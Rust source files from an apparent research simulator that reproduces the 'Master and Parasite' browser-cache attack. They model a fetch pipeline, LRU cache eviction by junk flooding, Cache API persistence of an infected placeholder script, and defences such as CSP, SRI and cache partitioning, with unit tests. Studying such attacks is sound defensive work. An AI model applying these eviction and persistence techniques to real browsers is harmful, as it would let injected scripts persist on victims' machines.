    }

    /// Fetches a single resource through the full pipeline.
    pub fn fetch(&mut self, url: &Url, top_level_site: &str) -> FetchResult {
        self.fetch_inner(url, top_level_site, false)
    }

    /// Fetches a resource bypassing the HTTP cache (the Ctrl-F5 path). The
    /// Cache API is *not* bypassed, which is the point of Table III.
    pub fn fetch_bypassing_cache(&mut self, url: &Url, top_level_site: &str) -> FetchResult {
        self.fetch_inner(url, top_level_site, true)
    }

    fn fetch_inner(&mut self, url: &Url, top_level_site: &str, bypass_http_cache: bool) -> FetchResult {
        let url = self.apply_hsts(url);
        let origin = url.origin().to_string();

        // The Cache API acts like a service-worker cache: if a script stored a
        // response for this URL it is served from there, surviving ordinary
        // cache clearing (Table III).
        if let Some(stored) = self.cache_api.get(&origin, &url) {
            let result = FetchResult {
                response: stored.clone(),
                source: FetchSource::CacheApi,
                final_url: url.clone(),
            };
            self.log(&url, FetchSource::CacheApi, result.response.status);
            return result;
        }

        if !bypass_http_cache {
            match self.cache.lookup(&url, top_level_site, self.now_secs) {
                CacheLookup::Fresh(response) => {
                    self.log(&url, FetchSource::HttpCache, response.status);
                    return FetchResult {
                        response,
                        source: FetchSource::HttpCache,
                        final_url: url,
                    };
                }
                CacheLookup::Stale(stored) => {
                    return self.revalidate(&url, top_level_site, stored);
                }
                CacheLookup::Miss => {}
            }
        }

        let request = self.build_request(&url);
        let response = self.transport.exchange(&request);
        self.absorb_response_metadata(&url, &response);
        self.cache.store(&url, top_level_site, response.clone(), self.now_secs);
        self.log(&url, FetchSource::Network, response.status);
        FetchResult {
            response,
            source: FetchSource::Network,
            final_url: url,
        }
    }

    fn revalidate(&mut self, url: &Url, top_level_site: &str, stored: Response) -> FetchResult {
        let policy = CachePolicy::private_cache();
        let base_request = self.build_request(url);
        let request = policy.revalidation_request(&base_request, &stored);
        let response = self.transport.exchange(&request);
        self.absorb_response_metadata(url, &response);
        if response.status == StatusCode::NOT_MODIFIED {
            // Refresh the stored entry's age by re-storing it now.
            self.cache.store(url, top_level_site, stored.clone(), self.now_secs);
            self.log(url, FetchSource::Revalidated, StatusCode::NOT_MODIFIED);
            FetchResult {
                response: stored,
                source: FetchSource::Revalidated,
                final_url: url.clone(),
            }
        } else {
            self.cache.store(url, top_level_site, response.clone(), self.now_secs);
            self.log(url, FetchSource::Network, response.status);
            FetchResult {
                response,
                source: FetchSource::Network,
                final_url: url.clone(),
            }
        }
    }

    fn log(&mut self, url: &Url, source: FetchSource, status: StatusCode) {
        self.fetch_log.push(FetchRecord {
            url: url.clone(),
            source,
            status,
        });
    }

    /// Loads a page: the main document, its inline scripts, and its
    /// subresources (scripts, images, stylesheets, and frames one level deep).
    pub fn visit(&mut self, url: &Url) -> PageLoad {
        self.load_page(url, false)
    }

    /// Reloads a page with Ctrl-F5 semantics: the HTTP cache is bypassed for
    /// every request, the Cache API is not.
    pub fn hard_reload(&mut self, url: &Url) -> PageLoad {
        self.load_page(url, true)
    }

    fn load_page(&mut self, url: &Url, bypass_http_cache: bool) -> PageLoad {
        let mut records = Vec::new();
        let main = self.fetch_inner(url, &url.origin().site(), bypass_http_cache);
        let top_level_site = main.final_url.origin().site();
        records.push(FetchRecord {
            url: main.final_url.clone(),
            source: main.source,
            status: main.response.status,
        });

        let mut page = Page::new(main.final_url.clone());
        page.html = main.response.body.as_text();
        let csp = ContentSecurityPolicy::from_headers(&main.response.headers);

        // Inline scripts always execute with the document.
        for body in page::extract_inline_scripts(&page.html) {
            page.scripts.push(LoadedScript {
                url: None,
                body,
                from_cache: main.source == FetchSource::HttpCache || main.source == FetchSource::CacheApi,
            });
        }

        let refs = page::extract_subresources(&page.html, &main.final_url);
        for subresource in refs {
            let directive = match subresource.kind {
                SubresourceKind::Script => Directive::ScriptSrc,
                SubresourceKind::Image => Directive::ImgSrc,
                SubresourceKind::Frame => Directive::FrameSrc,
                SubresourceKind::Stylesheet => Directive::StyleSrc,
            };
            if let Some(policy) = &csp {
                if !policy.allows(directive, &main.final_url, &subresource.url) {
                    records.push(FetchRecord {
                        url: subresource.url.clone(),
                        source: FetchSource::BlockedByCsp,
                        status: StatusCode(0),
                    });
                    continue;
                }
            }

            let result = self.fetch_inner(&subresource.url, &top_level_site, bypass_http_cache);
            match subresource.kind {
                SubresourceKind::Script => {
                    let outcome = sri::check(subresource.integrity.as_ref(), &result.response.body);
                    if outcome == SriOutcome::Blocked {
                        records.push(FetchRecord {
                            url: result.final_url.clone(),
                            source: FetchSource::BlockedBySri,
                            status: result.response.status,
                        });
                        continue;
                    }
                    if result.response.status.is_success() {
                        page.scripts.push(LoadedScript {
                            url: Some(result.final_url.clone()),
                            body: result.response.body.as_text(),
                            from_cache: !result.source.touched_network(),
                        });
                    }
                    records.push(FetchRecord {
                        url: result.final_url.clone(),
                        source: result.source,
                        status: result.response.status,
                    });
                }
                SubresourceKind::Frame => {
                    records.push(FetchRecord {
                        url: result.final_url.clone(),
                        source: result.source,
                        status: result.response.status,
                    });
                    page.frames.push(result.final_url.clone());
                    // Load the framed document's subresources one level deep:
                    // this is the iframe propagation vector (§VI-B1).
                    if result.response.body.kind == ResourceKind::Html
                        || result.response.status.is_success()
                    {
                        let frame_html = result.response.body.as_text();
                        let frame_refs = page::extract_subresources(&frame_html, &result.final_url);
                        let frame_site = result.final_url.origin().site();
                        for frame_ref in frame_refs {
                            let sub = self.fetch_inner(&frame_ref.url, &frame_site, bypass_http_cache);
                            if frame_ref.kind == SubresourceKind::Script && sub.response.status.is_success() {
                                page.scripts.push(LoadedScript {
                                    url: Some(sub.final_url.clone()),
                                    body: sub.response.body.as_text(),
                                    from_cache: !sub.source.touched_network(),
                                });
                            }
                            records.push(FetchRecord {
                                url: sub.final_url.clone(),
                                source: sub.source,
                                status: sub.response.status,
                            });
                        }
                    }
                }
                SubresourceKind::Image | SubresourceKind::Stylesheet => {
                    records.push(FetchRecord {
                        url: result.final_url.clone(),
                        source: result.source,
                        status: result.response.status,
                    });
                }
            }
        }

        PageLoad { page, records, csp }
    }

    /// The "clear cache" browser action: empties the HTTP cache but, as
    /// Table III shows, leaves Cache API storage (and therefore the parasite's
    /// second persistence layer) untouched.
    pub fn clear_http_cache(&mut self) {
        self.cache.clear();
    }

    /// The "clear cookies / site data" action: removes cookies, Cache API
    /// storage and local storage — the only action in Table III that actually
    /// removes Cache-API-persisted parasites.
    pub fn clear_cookies_and_site_data(&mut self) {
        self.cookies.clear();
        self.cache_api.clear_all();
        self.storage.clear_all();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use mp_httpsim::body::Body;
    use mp_httpsim::transport::{Internet, StaticOrigin};

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn small_site() -> Internet {
        let mut origin = StaticOrigin::new("somesite.com");
        origin.put_text(
            "/index.html",
            ResourceKind::Html,
            r#"<html><head><script src="/my.js"></script></head>
               <body><img src="/logo.png"></body></html>"#,
            "max-age=60",
        );
        origin.put_text("/my.js", ResourceKind::JavaScript, "function genuine(){}", "max-age=86400");
        origin.put_text("/logo.png", ResourceKind::Image, "PNGDATA", "max-age=86400");
        let mut net = Internet::new();
        net.register_origin(origin);
        net
    }

    fn browser() -> Browser {
        Browser::new(BrowserProfile::chrome(), Box::new(small_site()))
    }

    #[test]
    fn visit_fetches_document_and_subresources() {
        let mut b = browser();
        let load = b.visit(&url("http://somesite.com/index.html"));
        assert_eq!(load.records.len(), 3);
        assert!(load.records.iter().all(|r| r.source == FetchSource::Network));
        assert_eq!(load.page.scripts.len(), 1);
        assert!(load.page.scripts[0].body.contains("genuine"));
        assert_eq!(load.network_fetches(), 3);
    }

    #[test]
    fn second_visit_is_served_from_cache() {
        let mut b = browser();
        b.visit(&url("http://somesite.com/index.html"));
        let second = b.visit(&url("http://somesite.com/index.html"));
        assert!(second.records.iter().all(|r| r.source == FetchSource::HttpCache));
        assert_eq!(second.network_fetches(), 0);
        assert!(second.page.scripts[0].from_cache);
    }

    #[test]
    fn stale_entries_are_revalidated_with_304() {
        let mut origin = StaticOrigin::new("top1.com");
        let response = Response::ok(Body::text(ResourceKind::JavaScript, "persistent()"))
            .with_cache_control("max-age=10")
            .with_etag("\"v1\"");
        origin.put("/persistent.js", response);
        let mut net = Internet::new();
        net.register_origin(origin);
        let mut b = Browser::new(BrowserProfile::chrome(), Box::new(net));

        let target = url("http://top1.com/persistent.js");
        assert_eq!(b.fetch(&target, "top1.com").source, FetchSource::Network);
        b.advance_time(5);
        assert_eq!(b.fetch(&target, "top1.com").source, FetchSource::HttpCache);
        b.advance_time(100);
        let third = b.fetch(&target, "top1.com");
        assert_eq!(third.source, FetchSource::Revalidated);
        assert_eq!(third.response.body.as_text(), "persistent()");
    }

    #[test]
    fn cache_api_overrides_the_network_and_survives_cache_clearing() {
        let mut b = browser();
        let target = url("http://somesite.com/my.js");
        // A script stored an infected copy via the Cache API.
        let infected = Response::ok(Body::text(ResourceKind::JavaScript, "genuine();PARASITE();"));
        b.cache_api_mut()
            .put(&target.origin().to_string(), "parasite", &target, infected);

        let fetched = b.fetch(&target, "somesite.com");
        assert_eq!(fetched.source, FetchSource::CacheApi);
        assert!(fetched.response.body.as_text().contains("PARASITE"));

        // Ctrl-F5 and clear-cache do not help (Table III)...
        b.clear_http_cache();
        let again = b.fetch_bypassing_cache(&target, "somesite.com");
        assert_eq!(again.source, FetchSource::CacheApi);

        // ...only clearing cookies / site data removes it.
        b.clear_cookies_and_site_data();
        let clean = b.fetch(&target, "somesite.com");
        assert_eq!(clean.source, FetchSource::Network);
        assert!(!clean.response.body.as_text().contains("PARASITE"));
    }

    #[test]
    fn hsts_upgrades_subsequent_http_requests() {
        let mut origin = StaticOrigin::new("secure.example");
        origin.put(
            "/app.js",
            Response::ok(Body::text(ResourceKind::JavaScript, "x"))
                .with_cache_control("no-store")
                .with_header(names::STRICT_TRANSPORT_SECURITY, "max-age=31536000"),
        );
        let mut net = Internet::new();
        net.register_origin(origin);
        let mut b = Browser::new(BrowserProfile::chrome(), Box::new(net));

        // First request over HTTPS plants the HSTS entry.
        let https = url("https://secure.example/app.js");
        b.fetch(&https, "secure.example");
        // A later plain-HTTP URL is upgraded before it leaves the browser.
        let result = b.fetch(&url("http://secure.example/app.js"), "secure.example");
        assert_eq!(result.final_url.scheme, Scheme::Https);
    }

    #[test]
    fn hsts_from_http_responses_is_ignored() {
        let mut origin = StaticOrigin::new("plain.example");
        origin.put(
            "/app.js",
            Response::ok(Body::text(ResourceKind::JavaScript, "x"))
                .with_cache_control("no-store")
                .with_header(names::STRICT_TRANSPORT_SECURITY, "max-age=31536000"),
        );
        let mut net = Internet::new();
        net.register_origin(origin);
        let mut b = Browser::new(BrowserProfile::chrome(), Box::new(net));
        b.fetch(&url("http://plain.example/app.js"), "plain.example");
        let again = b.fetch(&url("http://plain.example/app.js"), "plain.example");
        assert_eq!(again.final_url.scheme, Scheme::Http);
    }

    #[test]
    fn csp_blocks_cross_origin_frames_but_not_same_origin_scripts() {
        let mut origin = StaticOrigin::new("protected.example");
        origin.put(
            "/index.html",
            Response::ok(Body::text(
                ResourceKind::Html,
                r#"<script src="/app.js"></script><iframe src="http://bank.example/"></iframe>"#,
            ))
            .with_cache_control("no-store")
            .with_header(names::CONTENT_SECURITY_POLICY, "default-src 'self'"),
        );
        origin.put_text("/app.js", ResourceKind::JavaScript, "ok()", "no-store");
        let mut net = Internet::new();
        net.register_origin(origin);
        let mut b = Browser::new(BrowserProfile::chrome(), Box::new(net));

        let load = b.visit(&url("http://protected.example/index.html"));
        assert!(load.csp.is_some());
        let frame_record = load
            .records
            .iter()
            .find(|r| r.url.host == "bank.example")
            .unwrap();
        assert_eq!(frame_record.source, FetchSource::BlockedByCsp);
        assert_eq!(load.page.scripts.len(), 1);
        assert!(load.page.frames.is_empty());
    }

    #[test]
    fn sri_blocks_tampered_scripts() {
        use mp_httpsim::sri::IntegrityDigest;
        let clean_digest = IntegrityDigest::of_bytes(b"function genuine(){}");
        let mut origin = StaticOrigin::new("sri.example");
        origin.put(
            "/index.html",
            Response::ok(Body::text(
                ResourceKind::Html,
                format!(r#"<script src="/app.js" integrity="{clean_digest}"></script>"#),
            ))
            .with_cache_control("no-store"),
        );
        // The served script does not match the pinned digest (it has been infected).
        origin.put_text("/app.js", ResourceKind::JavaScript, "function genuine(){};PARASITE();", "no-store");
        let mut net = Internet::new();
        net.register_origin(origin);
        let mut b = Browser::new(BrowserProfile::chrome(), Box::new(net));

        let load = b.visit(&url("http://sri.example/index.html"));
        assert!(load.page.scripts.is_empty());
        assert!(load
            .records
            .iter()
            .any(|r| r.source == FetchSource::BlockedBySri));
    }

    #[test]
    fn frames_load_their_subresources_one_level_deep() {
        let mut top = StaticOrigin::new("portal.example");
        top.put_text(
            "/index.html",
            ResourceKind::Html,
            r#"<iframe src="http://bank.example/home.html"></iframe>"#,
            "no-store",
        );
        let mut bank = StaticOrigin::new("bank.example");
        bank.put_text(
            "/home.html",
            ResourceKind::Html,
            r#"<script src="/banking.js"></script>"#,
            "no-store",
        );
        bank.put_text("/banking.js", ResourceKind::JavaScript, "bankCode()", "max-age=3600");
        let mut net = Internet::new();
        net.register_origin(top);
        net.register_origin(bank);
        let mut b = Browser::new(BrowserProfile::chrome(), Box::new(net));

        let load = b.visit(&url("http://portal.example/index.html"));
        assert_eq!(load.page.frames.len(), 1);
        assert!(load.page.scripts.iter().any(|s| s.body.contains("bankCode")));
        // The framed site's script is now in the victim's cache.
        assert!(b.cache().contains_any_partition(&url("http://bank.example/banking.js")));
    }

    #[test]
    fn cookies_are_attached_to_subsequent_requests() {
        struct CookieEcho;
        impl Exchange for CookieEcho {
            fn exchange(&mut self, request: &Request) -> Response {
                let cookie = request.headers.get(names::COOKIE).unwrap_or("").to_string();
                Response::ok(Body::text(ResourceKind::Html, cookie))
                    .with_cache_control("no-store")
                    .with_header(names::SET_COOKIE, "sid=s3cr3t")
            }
        }
        let mut b = Browser::new(BrowserProfile::chrome(), Box::new(CookieEcho));
        let target = url("http://echo.example/");
        let first = b.fetch(&target, "echo.example");
        assert_eq!(first.response.body.as_text(), "");
        let second = b.fetch(&target, "echo.example");
        assert_eq!(second.response.body.as_text(), "sid=s3cr3t");
    }

    #[test]
    fn change_network_swaps_the_transport() {
        let mut b = browser();
        let target = url("http://somesite.com/my.js");
        b.fetch(&target, "somesite.com");
        // Move to a network where somesite.com is unreachable.
        b.change_network(Box::new(Internet::new()));
        // Cached copy still serves.
        assert_eq!(b.fetch(&target, "somesite.com").source, FetchSource::HttpCache);
        // But an uncached resource now 404s.
        let missing = b.fetch(&url("http://somesite.com/new.js"), "somesite.com");
        assert_eq!(missing.response.status, StatusCode::NOT_FOUND);
    }
}
