//! # mp-browser
//!
//! A browser simulator for the *Master and Parasite Attack* reproduction.
//!
//! The crate models the pieces of a web browser that the attack interacts
//! with:
//!
//! * [`profile`] — per-browser parameters from the paper's Tables I–III
//!   (cache sizes, inter-domain eviction, Cache API support, OS coverage),
//! * [`cache`] — the size-bounded HTTP cache with LRU eviction, per-domain
//!   accounting, optional partitioning and the IE unbounded-growth failure
//!   mode,
//! * [`cache_api`] — script-controlled storage that survives cache clearing
//!   (Table III),
//! * [`storage`] — per-origin `localStorage`,
//! * [`dom`] — a minimal DOM with forms, submit-event logging and
//!   script-inserted element attribution,
//! * [`sop`] — Same-Origin Policy checks and the cross-origin image
//!   dimension leak the C&C channel uses,
//! * [`page`] — HTML subresource extraction and the [`page::Page`] model,
//! * [`browser`] — the [`browser::Browser`] tying everything together behind
//!   a fetch pipeline over an [`mp_httpsim::transport::Exchange`].
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod browser;
pub mod cache;
pub mod cache_api;
pub mod dom;
pub mod page;
pub mod profile;
pub mod sop;
pub mod storage;

pub use browser::{Browser, FetchRecord, FetchResult, FetchSource, PageLoad};
pub use cache::{CacheEntry, CacheLookup, HttpCache};
pub use cache_api::CacheApiStorage;
pub use dom::{Dom, Element, ElementId, FormSubmission};
pub use page::{LoadedScript, Page, SubresourceKind, SubresourceRef};
pub use profile::{BrowserKind, BrowserProfile, EvictionBehaviour, OperatingSystem};
