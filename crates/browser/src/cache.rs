//! The browser HTTP cache.
//!
//! This is the battlefield of the paper: the attacker first *evicts* the
//! victim's cached copies of target objects by flooding the cache with junk
//! (§IV, Figure 1, Table I), then *re-fills* it with infected copies whose
//! headers pin them for as long as possible (§V–§VI). The cache model
//! therefore needs: a size budget, LRU eviction, per-domain accounting (to
//! tell whether junk from `attacker.com` can push out `bank.example`),
//! partitioning by top-level site (the §VIII defence), and the
//! unbounded-growth failure mode that Table I reports for Internet Explorer.

use crate::profile::{BrowserProfile, EvictionBehaviour};
use mp_httpsim::caching::{CachePolicy, Freshness};
use mp_httpsim::message::Response;
use mp_httpsim::url::Url;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, HashMap};

/// A stored cache entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CacheEntry {
    /// The cached response.
    pub response: Response,
    /// When the response was stored (simulation seconds).
    pub stored_at: u64,
    /// When the entry was last read.
    pub last_used: u64,
    /// Monotone counter used to break LRU ties deterministically.
    pub use_sequence: u64,
    /// Size charged against the cache budget.
    pub size_bytes: u64,
}

/// Result of a cache lookup.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CacheLookup {
    /// Nothing stored under this key (for this partition).
    Miss,
    /// A fresh entry that may be used without revalidation.
    Fresh(Response),
    /// A stored but stale entry that requires revalidation; the stored
    /// response is returned so the caller can build a conditional request.
    Stale(Response),
}

impl CacheLookup {
    /// Returns `true` for [`CacheLookup::Fresh`].
    pub fn is_fresh(&self) -> bool {
        matches!(self, CacheLookup::Fresh(_))
    }

    /// Returns `true` for [`CacheLookup::Miss`].
    pub fn is_miss(&self) -> bool {
        matches!(self, CacheLookup::Miss)
    }
}

/// The browser HTTP cache.
#[derive(Debug, Clone)]
pub struct HttpCache {
    profile: BrowserProfile,
    policy: CachePolicy,
    // Keyed storage is ordered (BTreeMap) so every iteration — budget sums,
    // eviction scans, per-host accounting — is deterministic by construction
    // rather than by hash-seed accident.
    entries: BTreeMap<String, CacheEntry>,
    use_counter: u64,
    /// Peak bytes ever held — the quantity that matters for the IE
    /// unbounded-growth failure mode.
    peak_bytes: u64,
    /// Number of entries evicted over the cache's lifetime.
    evicted_entries: u64,
}

impl HttpCache {
    /// Creates a cache configured for `profile`.
    pub fn new(profile: BrowserProfile) -> Self {
        HttpCache {
            profile,
            policy: CachePolicy::private_cache(),
            entries: BTreeMap::new(),
            use_counter: 0,
            peak_bytes: 0,
            evicted_entries: 0,
        }
    }

    /// The profile this cache models.
    pub fn profile(&self) -> &BrowserProfile {
        &self.profile
    }

    fn partition_prefix(&self, top_level_site: &str) -> String {
        if self.profile.cache_partitioning {
            format!("{top_level_site}|")
        } else {
            String::new()
        }
    }

    /// The key an object is stored under: the full URL, optionally prefixed by
    /// the top-level site when cache partitioning is enabled.
    pub fn key_for(&self, url: &Url, top_level_site: &str) -> String {
        format!("{}{}", self.partition_prefix(top_level_site), url.cache_key())
    }

    /// Stores a response if its headers allow it. Returns `true` if stored.
    pub fn store(&mut self, url: &Url, top_level_site: &str, response: Response, now: u64) -> bool {
        if !self.policy.is_storable(&response) {
            return false;
        }
        let size = (response.body.len() + 512) as u64;
        let key = self.key_for(url, top_level_site);
        self.use_counter += 1;
        self.entries.insert(
            key,
            CacheEntry {
                response,
                stored_at: now,
                last_used: now,
                use_sequence: self.use_counter,
                size_bytes: size,
            },
        );
        self.enforce_budget();
        self.peak_bytes = self.peak_bytes.max(self.used_bytes());
        true
    }

    /// Looks up a URL, updating recency on a hit.
    pub fn lookup(&mut self, url: &Url, top_level_site: &str, now: u64) -> CacheLookup {
        let key = self.key_for(url, top_level_site);
        self.use_counter += 1;
        let use_sequence = self.use_counter;
        let policy = self.policy;
        match self.entries.get_mut(&key) {
            None => CacheLookup::Miss,
            Some(entry) => {
                entry.last_used = now;
                entry.use_sequence = use_sequence;
                let age = now.saturating_sub(entry.stored_at);
                match policy.freshness(&entry.response, age) {
                    Freshness::Fresh { .. } => CacheLookup::Fresh(entry.response.clone()),
                    Freshness::Stale { .. } | Freshness::AlwaysRevalidate => {
                        CacheLookup::Stale(entry.response.clone())
                    }
                    Freshness::Uncacheable => CacheLookup::Miss,
                }
            }
        }
    }

    /// Returns the stored entry (regardless of freshness) without touching
    /// recency — used by experiments to inspect cache contents.
    pub fn peek(&self, url: &Url, top_level_site: &str) -> Option<&CacheEntry> {
        self.entries.get(&self.key_for(url, top_level_site))
    }

    /// Returns `true` if any partition holds an entry for this URL.
    pub fn contains_any_partition(&self, url: &Url) -> bool {
        let suffix = url.cache_key();
        self.entries
            .keys()
            .any(|k| k == &suffix || k.ends_with(&format!("|{suffix}")))
    }

    /// Removes the entry for a URL. Returns `true` if something was removed.
    pub fn remove(&mut self, url: &Url, top_level_site: &str) -> bool {
        self.entries.remove(&self.key_for(url, top_level_site)).is_some()
    }

    /// Empties the whole HTTP cache (the "clear cache" browser action).
    pub fn clear(&mut self) {
        self.entries.clear();
    }

    /// Bytes currently charged against the budget.
    pub fn used_bytes(&self) -> u64 {
        self.entries.values().map(|e| e.size_bytes).sum()
    }

    /// Peak bytes ever held.
    pub fn peak_bytes(&self) -> u64 {
        self.peak_bytes
    }

    /// Number of entries currently stored.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Returns `true` if the cache holds no entries.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Number of entries evicted so far.
    pub fn evicted_entries(&self) -> u64 {
        self.evicted_entries
    }

    /// Entries grouped by host, for the per-domain accounting experiments.
    pub fn entries_per_host(&self) -> HashMap<String, usize> {
        let mut counts: HashMap<String, usize> = HashMap::new();
        for key in self.entries.keys() {
            let url_part = key.rsplit('|').next().unwrap_or(key);
            if let Ok(url) = Url::parse(url_part) {
                *counts.entry(url.host).or_default() += 1;
            }
        }
        counts
    }

    /// Memory pressure indicator for the IE failure mode: ratio of peak bytes
    /// to the nominal capacity. Values well above 1.0 mean the host OS would
    /// be running out of memory (Table I, "DOS on memory").
    pub fn memory_pressure(&self) -> f64 {
        if self.profile.cache_capacity_bytes == 0 {
            return 0.0;
        }
        self.peak_bytes as f64 / self.profile.cache_capacity_bytes as f64
    }

    fn enforce_budget(&mut self) {
        match self.profile.eviction {
            EvictionBehaviour::UnboundedGrowth => {
                // No eviction: the cache (and the host's memory use) just grows.
            }
            EvictionBehaviour::Lru | EvictionBehaviour::LruWithSlowdown => {
                while self.used_bytes() > self.profile.cache_capacity_bytes && !self.entries.is_empty() {
                    let victim_key = self
                        .entries
                        .iter()
                        .min_by_key(|(_, e)| (e.last_used, e.use_sequence))
                        .map(|(k, _)| k.clone())
                        .expect("non-empty cache has a minimum");
                    self.entries.remove(&victim_key);
                    self.evicted_entries += 1;
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::BrowserProfile;
    use mp_httpsim::body::{Body, ResourceKind};

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    fn response(content: &str, cache_control: &str) -> Response {
        Response::ok(Body::text(ResourceKind::JavaScript, content)).with_cache_control(cache_control)
    }

    fn small_profile(capacity: u64) -> BrowserProfile {
        BrowserProfile {
            cache_capacity_bytes: capacity,
            ..BrowserProfile::chrome()
        }
    }

    #[test]
    fn store_and_fresh_lookup() {
        let mut cache = HttpCache::new(BrowserProfile::chrome());
        let target = url("http://top1.com/persistent.js");
        assert!(cache.store(&target, "top1.com", response("a", "max-age=100"), 0));
        match cache.lookup(&target, "top1.com", 50) {
            CacheLookup::Fresh(r) => assert_eq!(r.body.as_text(), "a"),
            other => panic!("expected fresh hit, got {other:?}"),
        }
        assert!(cache.lookup(&url("http://top1.com/other.js"), "top1.com", 50).is_miss());
    }

    #[test]
    fn stale_entries_are_flagged_for_revalidation() {
        let mut cache = HttpCache::new(BrowserProfile::chrome());
        let target = url("http://top1.com/persistent.js");
        cache.store(&target, "top1.com", response("a", "max-age=10"), 0);
        assert!(matches!(cache.lookup(&target, "top1.com", 50), CacheLookup::Stale(_)));
    }

    #[test]
    fn no_store_responses_are_never_cached() {
        let mut cache = HttpCache::new(BrowserProfile::chrome());
        let target = url("http://bank.example/app.js");
        assert!(!cache.store(&target, "bank.example", response("a", "no-store"), 0));
        assert!(cache.lookup(&target, "bank.example", 0).is_miss());
    }

    #[test]
    fn lru_eviction_under_junk_flood() {
        // Capacity fits ~4 small objects (each body ~100 B + 512 B overhead).
        let mut cache = HttpCache::new(small_profile(2500));
        let victim = url("http://bank.example/app.js");
        cache.store(&victim, "bank.example", response(&"v".repeat(100), "max-age=86400"), 0);
        assert!(cache.peek(&victim, "bank.example").is_some());

        // The attacker's inline script loads junk images until the victim entry is gone.
        for i in 0..10 {
            let junk = url(&format!("http://attacker.com/junk{i:02}.jpg"));
            cache.store(&junk, "bank.example", response(&"j".repeat(100), "max-age=86400"), i + 1);
        }
        assert!(cache.peek(&victim, "bank.example").is_none(), "victim object must be evicted");
        assert!(cache.evicted_entries() > 0);
        assert!(cache.used_bytes() <= 2500);
    }

    #[test]
    fn unbounded_growth_models_the_ie_memory_dos() {
        let profile = BrowserProfile {
            cache_capacity_bytes: 2_000,
            ..BrowserProfile::internet_explorer()
        };
        let mut cache = HttpCache::new(profile);
        let victim = url("http://bank.example/app.js");
        cache.store(&victim, "bank.example", response(&"v".repeat(100), "max-age=86400"), 0);
        for i in 0..50 {
            let junk = url(&format!("http://attacker.com/junk{i:02}.jpg"));
            cache.store(&junk, "bank.example", response(&"j".repeat(100), "max-age=86400"), i + 1);
        }
        // Nothing is evicted; memory pressure grows far past the budget.
        assert!(cache.peek(&victim, "bank.example").is_some());
        assert_eq!(cache.evicted_entries(), 0);
        assert!(cache.memory_pressure() > 10.0);
    }

    #[test]
    fn lru_prefers_to_evict_least_recently_used() {
        let mut cache = HttpCache::new(small_profile(1500));
        let a = url("http://a.example/a.js");
        let b = url("http://b.example/b.js");
        cache.store(&a, "a.example", response(&"a".repeat(100), "max-age=86400"), 0);
        cache.store(&b, "b.example", response(&"b".repeat(100), "max-age=86400"), 1);
        // Touch `a` so `b` becomes the LRU victim.
        let _ = cache.lookup(&a, "a.example", 2);
        let c = url("http://c.example/c.js");
        cache.store(&c, "c.example", response(&"c".repeat(100), "max-age=86400"), 3);
        assert!(cache.peek(&a, "a.example").is_some());
        assert!(cache.peek(&b, "b.example").is_none());
        assert!(cache.peek(&c, "c.example").is_some());
    }

    #[test]
    fn cache_partitioning_isolates_top_level_sites() {
        let mut cache = HttpCache::new(BrowserProfile::chrome().with_cache_partitioning());
        let shared = url("http://analytics.example/ga.js");
        cache.store(&shared, "news.example", response("ga", "max-age=86400"), 0);
        // Same URL fetched from a different top-level site: separate entry.
        assert!(cache.lookup(&shared, "bank.example", 1).is_miss());
        assert!(!cache.lookup(&shared, "news.example", 1).is_miss());
        assert!(cache.contains_any_partition(&shared));
    }

    #[test]
    fn without_partitioning_the_entry_is_shared_across_sites() {
        let mut cache = HttpCache::new(BrowserProfile::chrome());
        let shared = url("http://analytics.example/ga.js");
        cache.store(&shared, "news.example", response("ga", "max-age=86400"), 0);
        assert!(!cache.lookup(&shared, "bank.example", 1).is_miss());
    }

    #[test]
    fn clear_empties_the_cache() {
        let mut cache = HttpCache::new(BrowserProfile::chrome());
        cache.store(&url("http://a.example/a.js"), "a.example", response("a", "max-age=1000"), 0);
        cache.clear();
        assert!(cache.is_empty());
        assert_eq!(cache.used_bytes(), 0);
    }

    #[test]
    fn entries_per_host_accounts_by_domain() {
        let mut cache = HttpCache::new(BrowserProfile::chrome());
        cache.store(&url("http://a.example/1.js"), "a.example", response("x", "max-age=1000"), 0);
        cache.store(&url("http://a.example/2.js"), "a.example", response("x", "max-age=1000"), 0);
        cache.store(&url("http://b.example/1.js"), "b.example", response("x", "max-age=1000"), 0);
        let counts = cache.entries_per_host();
        assert_eq!(counts.get("a.example"), Some(&2));
        assert_eq!(counts.get("b.example"), Some(&1));
    }
}
