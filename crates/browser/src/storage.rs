//! `localStorage` / `sessionStorage` model.
//!
//! The parasite's browser-data module reads local storage (Table V, "Browser
//! Data" row), and the C&C layer can use it to persist command state between
//! page loads. Storage is per-origin, exactly like the real API.

use serde::{Deserialize, Serialize};
use std::collections::BTreeMap;

/// Per-origin key/value storage (the `localStorage` half; `sessionStorage`
/// is the same structure cleared on browser restart).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct OriginStorage {
    data: BTreeMap<String, BTreeMap<String, String>>,
}

impl OriginStorage {
    /// Creates empty storage.
    pub fn new() -> Self {
        Self::default()
    }

    /// Sets a key for an origin (`localStorage.setItem`).
    pub fn set_item(&mut self, origin: &str, key: &str, value: &str) {
        self.data
            .entry(origin.to_string())
            .or_default()
            .insert(key.to_string(), value.to_string());
    }

    /// Reads a key for an origin (`localStorage.getItem`).
    pub fn get_item(&self, origin: &str, key: &str) -> Option<&str> {
        self.data.get(origin)?.get(key).map(String::as_str)
    }

    /// Removes a key.
    pub fn remove_item(&mut self, origin: &str, key: &str) {
        if let Some(entries) = self.data.get_mut(origin) {
            entries.remove(key);
        }
    }

    /// Returns every key/value pair of an origin — what a script running on
    /// that origin (for example a parasite) can dump wholesale.
    pub fn dump_origin(&self, origin: &str) -> Vec<(String, String)> {
        self.data
            .get(origin)
            .map(|entries| entries.iter().map(|(k, v)| (k.clone(), v.clone())).collect())
            .unwrap_or_default()
    }

    /// Number of keys stored for an origin.
    pub fn len_for(&self, origin: &str) -> usize {
        self.data.get(origin).map(BTreeMap::len).unwrap_or(0)
    }

    /// Clears one origin's storage.
